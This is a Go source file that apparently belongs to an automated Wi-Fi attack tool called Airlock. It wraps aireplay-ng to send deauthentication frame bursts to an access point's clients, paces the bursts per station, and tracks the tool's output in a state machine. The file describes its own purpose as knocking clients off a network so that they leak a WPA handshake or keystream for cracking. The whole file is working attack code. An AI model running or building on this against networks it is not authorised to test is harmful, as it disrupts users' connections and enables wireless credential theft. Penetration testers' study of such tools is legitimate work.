package aireplay

import (
	"context"
	"strconv"
	"strings"
	"sync"
	"time"

	"Airlock/internal/machine"
	"Airlock/internal/procman"
	"Airlock/internal/wireless"
	"Airlock/pkg/logger"

	"golang.org/x/time/rate"
)

type DeauthState int

const (
	DeauthStarted DeauthState = iota
	DeauthWaitingForBeacon
	Sending
	DeauthTerminated
)

func (s DeauthState) String() string {
	switch s {
	case DeauthStarted:
		return "STARTED"
	case DeauthWaitingForBeacon:
		return "WAITING_FOR_BEACON"
	case Sending:
		return "SENDING"
	case DeauthTerminated:
		return "TERMINATED"
	}
	return "UNKNOWN"
}

// FlagNoSuchBSSID is set when the access point could not be heard.
const FlagNoSuchBSSID = "no_such_bssid"

// Deauth follows one burst of aireplay-ng --deauth.
type Deauth struct {
	machine.Base[DeauthState]
}

func NewDeauth(src machine.Source) *Deauth {
	d := &Deauth{Base: machine.NewBase[DeauthState]("aireplay-ng --deauth", src, DeauthStarted, DeauthTerminated)}
	sent := func([]string) error {
		d.SetStat("bursts", d.Stat("bursts")+1)
		return nil
	}
	d.Out = &machine.Table[DeauthState]{
		Rules: []machine.Rule[DeauthState]{
			machine.On("beacon", machine.Contains("Waiting for beacon frame"), DeauthStarted).Goto(DeauthWaitingForBeacon),
			machine.On("directed", machine.Regexp(`Sending (\d+) directed DeAuth`), DeauthStarted, DeauthWaitingForBeacon, Sending).
				Goto(Sending).
				Then(sent),
			machine.On("broadcast", machine.Contains("Sending DeAuth"), DeauthStarted, DeauthWaitingForBeacon, Sending).
				Goto(Sending).
				Then(sent),
			machine.On[DeauthState]("no bssid", machine.Contains("No such BSSID available")).Then(func([]string) error {
				d.SetFlag(FlagNoSuchBSSID)
				return nil
			}),
		},
		Noise: []machine.Matcher{
			machine.Prefix("Please specify an ESSID"),
			machine.Contains("NB: this attack is more effective"),
		},
		Unknown: machine.Ignore,
	}
	d.Outcome = machine.Outcome[DeauthState]{
		SuccessStates: []DeauthState{Sending},
		Adverse:       []string{FlagNoSuchBSSID},
	}
	return d
}

// Deauthenticator kicks stations off an access point so they reconnect and
// leak a handshake or keystream. Bursts are paced per station.
type Deauthenticator struct {
	bin      string
	iface    *wireless.Interface
	count    int
	interval time.Duration
	poll     time.Duration

	mu       sync.Mutex
	limiters map[string]*rate.Limiter
}

// NewDeauthenticator sends count deauthentication frames per burst and at
// most one burst per station every interval.
func NewDeauthenticator(bin string, iface *wireless.Interface, count int, interval, poll time.Duration) *Deauthenticator {
	return &Deauthenticator{
		bin:      bin,
		iface:    iface,
		count:    count,
		interval: interval,
		poll:     poll,
		limiters: make(map[string]*rate.Limiter),
	}
}

func (d *Deauthenticator) limiter(station string) *rate.Limiter {
	d.mu.Lock()
	defer d.mu.Unlock()
	key := strings.ToLower(station)
	l, ok := d.limiters[key]
	if !ok {
		l = rate.NewLimiter(rate.Every(d.interval), 1)
		d.limiters[key] = l
	}
	return l
}

// Deauthenticate sends one burst to station, or to every client of bssid
// when station is empty. It blocks until the station may be hit again.
func (d *Deauthenticator) Deauthenticate(ctx context.Context, bssid, station string) error {
	if err := d.limiter(station).Wait(ctx); err != nil {
		return err
	}
	args := []string{"--deauth", strconv.Itoa(d.count), "-a", bssid}
	if station != "" {
		args = append(args, "-c", station)
	}
	args = append(args, d.iface.Name)

	p, err := procman.Start(d.bin, args, procman.Options{Name: "deauth"})
	if err != nil {
		return err
	}
	m := NewDeauth(p)
	defer func() {
		if err := m.Cleanup(); err != nil {
			logger.Warnf("[deauth] cleanup: %v", err)
		}
	}()
	if err := machine.Await(ctx, m, d.poll); err != nil {
		return err
	}
	if m.Flag(FlagNoSuchBSSID) {
		logger.Warnf("[deauth] %s not heard on %s", bssid, d.iface.Name)
	}
	return nil
}

// Round deauthenticates every station in turn, or broadcasts when none is
// known.
func (d *Deauthenticator) Round(ctx context.Context, bssid string, stations []string) error {
	if len(stations) == 0 {
		return d.Deauthenticate(ctx, bssid, "")
	}
	for _, st := range stations {
		if err := d.Deauthenticate(ctx, bssid, st); err != nil {
			return err
		}
	}
	return nil
}
